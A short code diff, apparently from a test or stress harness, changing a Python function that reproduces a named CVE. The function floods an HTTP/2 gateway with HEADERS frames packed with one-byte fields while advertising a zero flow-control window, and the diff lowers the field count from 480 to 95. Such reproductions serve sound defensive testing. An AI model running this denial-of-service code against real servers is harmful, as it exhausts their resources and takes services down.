@@ -145,7 +145,7 @@ def tiny_data(gateway, count, seconds):
 def many_fields(gateway, count, seconds):
     """As many fields as a head may have, each by one byte, and no window for the answers (CVE-2026-49975)."""
     first = frames.request() + frames.literal("a", "", kept=True)
-    head = frames.request() + b"\xbe" * 480
+    head = frames.request() + b"\xbe" * 95
     opening = frames.PREFACE + frames.settings(initial_window=0) + frame(frames.HEADERS, 5, 1, first)
     opening += b"".join(frame(frames.HEADERS, 5, stream, head) for stream in range(3, 201, 2))
     made = [connect(gateway.port) for _ in range(count)]
@@ -154,4 +154,4 @@ def many_fields(gateway, count, seconds):
     time.sleep(seconds / 2)
     for one in made:
         one.close()
-    return f"{count * 100:,} heads of 480 fields, each field a byte, with no window for the answers"
+    return f"{count * 100:,} heads of 95 fields, each field a byte, with no window for the answers"
